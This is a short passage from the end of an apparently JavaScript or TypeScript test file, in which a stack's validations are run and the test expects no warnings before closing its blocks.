    f.stack.runAllValidations();
    expect(warnings(f.stack)).toEqual([]);
  });
});
